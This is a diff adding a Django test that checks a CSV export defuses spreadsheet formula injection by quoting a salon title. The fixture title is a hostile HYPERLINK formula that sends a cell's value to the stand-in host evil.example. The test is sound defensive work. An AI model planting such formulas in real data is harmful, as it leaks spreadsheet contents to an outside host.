@@ -417,3 +417,17 @@ def test_session_page__timeline_and_status_since(admin_client, seeded):
     assert 'id="timeline-7"' in html and 'id="timeline-30"' in html
     assert "first seen" in html and 'id="status-since"' in html
     assert 'class="obs-band-fail"' in html
+
+
+def test_changelist__export_action_defuses_spreadsheet_formulas(admin_client):
+    """A salon title that is a formula is exported quoted, so a spreadsheet shows it as text."""
+    factories.make_company(SALON, title='=HYPERLINK("http://evil.example/?"&A1,"open")')
+    factories.make_auth(str(SALON), phone=PHONE)
+    snapshot.refresh(full=True)
+    response = admin_client.post(
+        reverse("admin:observability_sessionstate_changelist"),
+        {"action": "export_health_csv", "_selected_action": [str(SALON)]},
+    )
+    row = response.content.decode().splitlines()[1]
+    assert "'=HYPERLINK(" in row
+    assert ',"=HYPERLINK' not in row and not row.startswith("=")
